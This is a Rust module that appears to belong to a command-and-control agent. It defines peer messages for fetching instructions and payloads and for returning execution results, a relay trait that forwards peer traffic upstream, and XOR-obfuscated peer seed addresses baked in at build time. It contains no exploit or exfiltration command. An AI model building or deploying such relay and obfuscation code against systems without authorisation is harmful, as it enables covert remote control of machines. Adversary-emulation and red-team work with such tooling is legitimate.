pub mod http_receiver;

use async_trait::async_trait;
use base64::prelude::*;
use indexmap::IndexMap;
use serde::{Deserialize, Serialize};
use std::collections::HashMap;
use std::sync::Arc;
use tokio::sync::mpsc;

use crate::contact::Contact;
use crate::errors::{AgentError, Result};

// Message type values for PeerMessage.
pub const GET_INSTRUCTIONS: u32 = 1;
pub const GET_PAYLOAD_BYTES: u32 = 2;
pub const SEND_EXECUTION_RESULTS: u32 = 3;
pub const RESPONSE_INSTRUCTIONS: u32 = 4;
pub const RESPONSE_PAYLOAD_BYTES: u32 = 5;
pub const ACK_EXECUTION_RESULTS: u32 = 6;

/// The single record exchanged across the peer fabric. Field names and the
/// base64 payload encoding match the JSON the relay network already speaks.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct PeerMessage {
    #[serde(rename = "SourcePaw")]
    pub source_paw: String,
    #[serde(rename = "SourceAddress")]
    pub source_address: String,
    #[serde(rename = "MessageType")]
    pub message_type: u32,
    #[serde(rename = "Payload", with = "base64_bytes")]
    pub payload: Vec<u8>,
}

impl PeerMessage {
    pub fn new(source_paw: &str, source_address: &str, message_type: u32, payload: Vec<u8>) -> Self {
        Self {
            source_paw: source_paw.to_string(),
            source_address: source_address.to_string(),
            message_type,
            payload,
        }
    }

    pub fn to_bytes(&self) -> Result<Vec<u8>> {
        serde_json::to_vec(self).map_err(|e| AgentError::Codec(e.to_string()))
    }

    pub fn from_bytes(data: &[u8]) -> Result<Self> {
        serde_json::from_slice(data).map_err(|e| AgentError::Codec(e.to_string()))
    }
}

pub(crate) mod base64_bytes {
    use base64::prelude::*;
    use serde::{Deserialize, Deserializer, Serializer};

    pub fn serialize<S: Serializer>(bytes: &[u8], serializer: S) -> Result<S::Ok, S::Error> {
        serializer.serialize_str(&BASE64_STANDARD.encode(bytes))
    }

    pub fn deserialize<'de, D: Deserializer<'de>>(deserializer: D) -> Result<Vec<u8>, D::Error> {
        let encoded = String::deserialize(deserializer)?;
        BASE64_STANDARD
            .decode(encoded)
            .map_err(serde::de::Error::custom)
    }
}

/// A long-lived local listener that relays peer traffic to the upstream
/// contact. One implementation per peer-reachable protocol.
#[async_trait]
pub trait PeerReceiver: Send + Sync {
    /// Must fail cleanly when the upstream contact cannot carry this
    /// receiver's wire format.
    async fn initialize(
        &self,
        upstream_server: &str,
        upstream_contact: Arc<dyn Contact>,
        barrier: mpsc::Sender<()>,
    ) -> Result<()>;

    /// Serves until `terminate`. Releases its barrier slot on exit.
    async fn run(&self);

    /// Initiates graceful shutdown; the owner bounds the wait at 5 seconds.
    async fn terminate(&self);

    async fn update_upstream_server(&self, addr: &str);

    async fn update_upstream_coms(&self, contact: Arc<dyn Contact>);

    async fn update_agent_paw(&self, paw: &str);

    /// Listen addresses to advertise in the profile, one per non-loopback
    /// IPv4 interface.
    fn get_receiver_addresses(&self) -> Vec<String>;

    fn get_name(&self) -> String;
}

#[derive(Default, Clone)]
pub struct ReceiverRegistry {
    receivers: HashMap<String, Arc<dyn PeerReceiver>>,
}

impl ReceiverRegistry {
    pub fn new() -> Self {
        Self::default()
    }

    pub fn with_defaults() -> Self {
        let mut registry = Self::new();
        registry.register(Arc::new(http_receiver::HttpReceiver::new()));
        registry
    }

    pub fn register(&mut self, receiver: Arc<dyn PeerReceiver>) {
        self.receivers.insert(receiver.get_name(), receiver);
    }

    pub fn iter(&self) -> impl Iterator<Item = (&String, &Arc<dyn PeerReceiver>)> {
        self.receivers.iter()
    }

    pub fn is_empty(&self) -> bool {
        self.receivers.is_empty()
    }
}

// Symmetric XOR pass used to obfuscate the baked-in peer seed.
pub fn xor_bytes(data: &[u8], key: &[u8]) -> Vec<u8> {
    if key.is_empty() {
        return data.to_vec();
    }
    data.iter()
        .enumerate()
        .map(|(i, byte)| byte ^ key[i % key.len()])
        .collect()
}

/// Decodes the build-time peer seed: base64 over an XOR'd JSON map of
/// receiver protocol to addresses. The map keeps the document's order.
/// Empty inputs produce an empty pool.
pub fn decode_peer_seed(encoded: &str, key: &str) -> Result<IndexMap<String, Vec<String>>> {
    if encoded.is_empty() || key.is_empty() {
        return Ok(IndexMap::new());
    }
    let ciphertext = BASE64_STANDARD
        .decode(encoded)
        .map_err(|e| AgentError::Codec(format!("peer seed: {}", e)))?;
    let plaintext = xor_bytes(&ciphertext, key.as_bytes());
    serde_json::from_slice(&plaintext)
        .map_err(|e| AgentError::Codec(format!("peer seed: {}", e)))
}

pub fn encode_peer_seed(receivers: &IndexMap<String, Vec<String>>, key: &str) -> Result<String> {
    let plaintext = serde_json::to_vec(receivers)
        .map_err(|e| AgentError::Codec(format!("peer seed: {}", e)))?;
    Ok(BASE64_STANDARD.encode(xor_bytes(&plaintext, key.as_bytes())))
}
